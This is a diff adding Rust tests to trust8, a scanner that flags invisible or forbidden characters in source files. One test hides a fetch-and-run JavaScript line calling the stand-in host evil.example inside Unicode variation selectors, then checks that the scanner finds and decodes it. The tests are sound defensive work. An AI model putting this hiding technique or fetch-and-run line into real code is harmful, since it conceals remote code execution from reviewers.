@@ -1,6 +1,6 @@
 //! Tests `--profile`.
 
-use crate::folder::{Folder, stdout};
+use crate::folder::{Folder, stdout, trust8};
 use predicates::prelude::*;
 use predicates::str::{contains, is_empty};
 use serde_json::Value;
@@ -111,4 +111,81 @@ fn fix_repairs_what_a_profile_forbids() {
     folder.trust8().args(fix).assert().code(0).stderr(contains("1 forbidden character"));
     assert_eq!(std::fs::read(folder.at("valid")).unwrap(), b"ab");
     folder.trust8().args(fix).assert().code(0).stderr(contains("1 forbidden character").not());
+}
+
+/// An attack hides code in hundreds of characters that nobody sees. That is one finding, which says what they are.
+#[test]
+fn a_run_of_invisible_characters_is_one_finding_with_what_it_spells() {
+    let code = "fetch('//evil.example/x').then(run)".repeat(12);
+    let selectors: String =
+        code.bytes().filter_map(|byte| char::from_u32(0xE0100 + u32::from(byte) - 16)).collect();
+    let folder = Folder::new();
+    let before = "const a = 1;\nlet s = '".to_owned();
+    let text = format!("{before}{selectors}';\n\0\n\0\0\n");
+    folder.file("f.js", &text);
+    let check = |options: &[&str]| {
+        let check =
+            folder.trust8().args(["--profile", "source", "-a"]).args(options).arg("f.js").assert().code(1);
+        stdout(&check)
+    };
+    let short = check(&["-f", "short"]);
+    let lines: Vec<_> = short.lines().collect();
+    assert_eq!(lines.len(), 3, "{short}");
+    let [n, len] = [code.len(), 4 * code.len()];
+    assert!(
+        lines[0].starts_with(&format!(
+            "f.js:2:10: byte 22: {n} variation selectors, which spell `fetch('//evil.example/x').then(run)fetch..`, {len} bytes from U+E0156 on; each is a variation selector"
+        )),
+        "{short}"
+    );
+    assert!(lines[1].starts_with("f.js:3:1: byte "), "{short}");
+    assert!(lines[2].contains(": 2 forbidden characters, 2 bytes from U+0000 on; each is NUL"), "{short}");
+    // A pipe gives the same.
+    let piped =
+        trust8().args(["--profile", "source", "-af", "short"]).write_stdin(text.clone()).assert().code(1);
+    assert_eq!(stdout(&piped).replace("<stdin>", "f.js"), short);
+    let human = check(&[]);
+    assert!(human.len() < 2000, "{human}");
+    let json: Value = serde_json::from_str(&check(&["-f", "json"])).unwrap();
+    let error = &json["files"][0]["errors"][0];
+    assert_eq!((&error["offset"], &error["length"], &error["count"]), (&22.into(), &len.into(), &n.into()));
+    assert_eq!((&error["class"], &error["spelled"]), (&"stray-selector".into(), &code.as_str().into()));
+    assert_eq!(json["summary"]["errors"], n as u64 + 3);
+    let sarif: Value = serde_json::from_str(&check(&["-f", "sarif"])).unwrap();
+    let result = &sarif["runs"][0]["results"][0];
+    assert_eq!(
+        (&result["ruleId"], &result["locations"][0]["physicalLocation"]["region"]["byteLength"]),
+        (&"stray-selector".into(), &len.into())
+    );
+    let rules = sarif["runs"][0]["tool"]["driver"]["rules"].as_array().unwrap();
+    for result in sarif["runs"][0]["results"].as_array().unwrap() {
+        let rule = rules.iter().find(|rule| rule["id"] == result["ruleId"]).expect("a rule");
+        assert!(rule["help"]["text"].as_str().unwrap().contains("trust8"));
+    }
+    assert_eq!(
+        rules.iter().map(|rule| rule["id"].as_str().unwrap()).collect::<std::collections::HashSet<_>>().len(),
+        rules.len()
+    );
+    assert!(check(&["-f", "github"]).starts_with("::error file=f.js,line=2,col=10::byte 22: "));
+    // Each kind of character counts for an exception.
+    folder.file(
+        "trust8.toml",
+        "[[exception]]\npath = \"f.js\"\nclass = [\"stray-selector\", \"nul\"]\nreason = \"Test\"\n",
+    );
+    folder.trust8().args(["--profile", "source", "f.js"]).assert().code(0);
+}
+
+/// Wherever a run begins in what is read at once, it is one finding.
+#[test]
+fn a_run_is_one_finding_at_any_place() {
+    for start in ((1 << 18) - 700..(1 << 18) + 8).step_by(97).chain(0..40) {
+        let text = format!("{}{}tail", "x".repeat(start), "\u{E0141}".repeat(150));
+        let run = trust8().args(["--profile", "source", "-af", "jsonl"]).write_stdin(text).assert().code(1);
+        let said = stdout(&run);
+        assert!(
+            said.contains(&format!("\"offset\":{start},\"length\":600,\"count\":150,")),
+            "{start}: {said:.300}"
+        );
+        assert_eq!(said.matches("\"type\":\"error\"").count(), 1);
+    }
 }
